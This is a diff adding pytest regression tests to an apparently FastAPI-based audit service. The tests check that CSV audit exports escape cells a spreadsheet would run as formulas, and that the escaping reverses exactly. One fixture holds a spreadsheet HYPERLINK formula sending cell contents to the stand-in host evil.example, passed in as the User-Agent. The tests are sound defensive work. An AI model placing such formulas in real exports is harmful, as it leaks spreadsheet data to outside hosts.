@@ -13,11 +13,15 @@ import pytest
 from fastapi.testclient import TestClient
 
 from audit.chain import compute_hash
+from audit.export import escape_cell, read_anchors, unescape_cell
+from audit.verify import Anchor
 from service.app import create_app
+from service.auth import create_dev_token
 from service.database import Database, build_engine
 from service.settings import Settings
 from tests.audit_helpers import change, events_of, json_lines, run_cli, scratch_database
-from tests.support import create_task
+from tests.jwt_helpers import random_id
+from tests.support import ApiUser, create_task
 
 EVENT_FIELDS = [
     "id", "occurred_at", "user_id", "actor_id", "action", "entity_type", "entity_id", "before",
@@ -236,3 +240,65 @@ def test_unreachable_database_exits_3(settings: Settings, args: list[str]) -> No
     assert status == 3
     assert "the database is unreachable" in err
     assert out == ""
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_escaped(
+    client: TestClient, settings: Settings, database: Database, tmp_path: Path
+) -> None:
+    """Client text (request id, User-Agent, user id) starting a cell with `=` was written raw,
+    and a spreadsheet ran it. The CSV shows it as text; NDJSON keeps it exact; both verify."""
+    assert settings.better_auth_secret is not None
+    user = ApiUser(
+        user_id := "=1+2" + random_id(12),
+        create_dev_token(settings.better_auth_secret.get_secret_value(), user_id),
+    )
+    headers = {**user.headers, "X-Request-ID": "-2+3", "User-Agent": FORMULA}
+    created = client.post(user.url(), json={"title": "@SUM(A1)"}, headers=headers)
+    assert created.status_code == 201, created.text
+    change(client, "DELETE", f"/{created.json()['id']}", user)
+    export = tmp_path / "audit.csv"
+    args = ("audit", "export", "--user", user_id, "--output")
+    assert run_cli(settings, *args, str(export), "--format", "csv")[0] == 0
+    ndjson = tmp_path / "audit.ndjson"
+    assert run_cli(settings, *args, str(ndjson), "--format", "ndjson")[0] == 0
+
+    with export.open(encoding="utf-8", newline="") as file:
+        rows = list(csv.reader(file))
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
+    header, first, *_ = rows
+    event = dict(zip(header, first, strict=True))
+    assert (event["user_id"], event["actor_id"]) == ("'" + user_id, "'" + user_id)
+    assert (event["request_id"], event["user_agent"]) == ("'-2+3", "'" + FORMULA)
+    # Undone exactly: the stored values and their hashes come back from the file.
+    records = [dict(zip(header, row, strict=True)) for row in rows[1:]]
+    events = [
+        _from_csv({k: unescape_cell(v) for k, v in r.items() if k in EVENT_FIELDS})
+        for r in records
+        if r["record"] == "event"
+    ]
+    stored = events_of(database.engine, user_id)
+    assert (
+        [compute_hash(e) for e in events]
+        == [e["hash"] for e in events]
+        == [row["hash"] for row in stored]
+    )
+    assert (events[0]["request_id"], events[0]["user_agent"]) == ("-2+3", FORMULA)
+    # NDJSON is the stored text, unescaped.
+    first_event = json_lines(ndjson.read_text(encoding="utf-8"))[0]
+    assert (first_event["user_id"], first_event["request_id"]) == (user_id, "-2+3")
+    assert first_event["user_agent"] == FORMULA
+    # `verify --against` reads the chain's head from either file under the user's real id.
+    head = Anchor(seq=2, hash=stored[-1]["hash"])
+    assert read_anchors(export) == read_anchors(ndjson) == {user_id: head}
+
+
+@pytest.mark.parametrize(
+    "value", ["=1", "+1", "-1", "@A1", "\tx", "\rx", "'", "'=1", "''", "a=b", "", "1"]
+)
+def test_escaping_a_csv_cell_is_undone_exactly(value: str) -> None:
+    cell = escape_cell(value)
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert unescape_cell(cell) == value
